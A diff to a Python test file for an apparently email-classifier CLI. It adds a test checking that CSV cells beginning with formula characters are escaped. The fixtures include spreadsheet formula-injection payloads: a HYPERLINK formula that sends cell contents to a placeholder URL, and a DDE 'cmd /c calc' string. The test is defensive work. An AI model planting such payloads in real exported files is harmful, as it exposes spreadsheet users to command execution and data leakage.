@@ -1,5 +1,6 @@
 """The command line, run as a user runs it: a subprocess of the installed console script."""
 
+import csv
 import os
 import subprocess
 import sys
@@ -38,7 +39,7 @@ def test_train_then_score_from_the_command_line(tmp_path, small_params, small_da
 
 
 def test_score_without_a_model_fails_with_a_clear_message(tmp_path):
-    result = run("score", ROOT / "data" / "sample" / "inbox.csv", "-o", "q.csv", "--model", "nowhere", cwd=tmp_path)
+    result = run("score", ROOT / "data" / "sample" / "inbox.csv", "-o", "q.csv", "--model", "nowhere", "--params", ROOT / "params.yaml", cwd=tmp_path)
     assert result.returncode == 2
     assert "train a model first" in result.stdout
     assert not Path(tmp_path / "q.csv").exists()
@@ -123,7 +124,7 @@ def test_unusable_inputs_and_options_are_refused_without_a_traceback(tmp_path):
     refusals = {
         "is the input itself": ("score", inbox, "-o", inbox),
         "is the input itself ": ("score", "inbox.csv", "-o", tmp_path / "." / "inbox.csv"),
-        "text.csv: no 'body' column in the header row": ("score", "text.csv", "-o", "out.csv"),
+        "text.csv: no 'body' column in the header row": ("score", "text.csv", "-o", "out.csv", "--params", ROOT / "params.yaml"),
         "Invalid value for '--chunk-size': Input should be greater than or equal to 1": ("score", inbox, "-o", "out.csv", "--chunk-size", "0"),
         "Invalid value for '--chunk-size': Input should be greater than or equal to 1 ": ("score", inbox, "-o", "out.csv", "--chunk-size", "-3"),
         "missing.csv: No such file or directory": ("queue", "missing.csv"),
@@ -137,3 +138,43 @@ def test_unusable_inputs_and_options_are_refused_without_a_traceback(tmp_path):
         assert expected.strip() in shown, (args, shown)
         assert "Traceback" not in shown
     assert inbox.read_bytes() == before and not (tmp_path / "out.csv").exists()
+
+
+FORMULAS = {  # the issue's examples and the other starts OWASP lists; the subject is written redacted (lower case)
+    "f1": '=hyperlink("<URL>"&a1,"click")',
+    "f2": "+cmd|' /c calc'!a0",
+    "f3": "-2+3",
+    "f4": "@SUM(A1:A9)",
+    "f5": "普通の件名 =1+1",  # a formula character inside a cell starts nothing
+}
+FORMULA_IDS = ["\ttab@x", "\rcr@x", "-minus@x"]  # ids are written verbatim: tab and CR starts survive there
+
+
+def test_csv_cells_that_start_a_formula_are_neutralized_unless_turned_off(model_dir, tmp_path):
+    inbox = tmp_path / "inbox.csv"
+    rows = [{"id": key, "received_at": "2026-11-18T10:00:00+09:00", "subject": subject, "body": LATE} for key, subject in FORMULAS.items()]
+    rows += [{"id": key, "received_at": "2026-11-18T10:00:00+09:00", "subject": "", "body": WRONG} for key in FORMULA_IDS]
+    with inbox.open("w", encoding="utf-8", newline="") as handle:  # the csv module quotes a CR, pandas does not
+        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+    outputs = {"safe.csv": (), "raw.csv": ("--no-csv-escape",), "queue.jsonl": (), "queue.parquet": ()}
+    for name, options in outputs.items():
+        assert score(model_dir, inbox, "-o", name, *options, cwd=tmp_path).returncode == 0
+    tables = {}
+    for name in ("safe.csv", "raw.csv"):
+        with (tmp_path / name).open(encoding="utf-8", newline="") as handle:
+            tables[name] = list(csv.DictReader(handle))
+    safe, raw = tables["safe.csv"], tables["raw.csv"]
+    assert [row["id"] for row in raw] == [*FORMULAS, *FORMULA_IDS]  # --no-csv-escape: verbatim
+    assert [row["id"] for row in safe] == [*FORMULAS, *("'" + key for key in FORMULA_IDS)]
+    assert raw[0]["subject"].startswith('=hyperlink("') and raw[1]["subject"] == FORMULAS["f2"]
+    for position in range(4):
+        assert raw[position]["subject"][0] in "=+-@" and safe[position]["subject"] == "'" + raw[position]["subject"]
+    assert safe[4]["subject"] == raw[4]["subject"] == FORMULAS["f5"]
+    # Numbers are never escaped, so they stay numbers for Excel and for `classifier queue`.
+    assert all(row["queue_position"].isdigit() and not row["topic_confidence"].startswith("'") for row in safe)
+    for untouched in (pd.read_json(tmp_path / "queue.jsonl", lines=True, dtype=False), pd.read_parquet(tmp_path / "queue.parquet")):
+        assert list(untouched["id"]) == [*FORMULAS, *FORMULA_IDS] and list(untouched["subject"][:4]) == [row["subject"] for row in raw[:4]]
+    shown = run("queue", "safe.csv", cwd=tmp_path)  # the escaped queue still reads back
+    assert shown.returncode == 0 and "8 records:" in shown.stdout, shown.stdout + shown.stderr
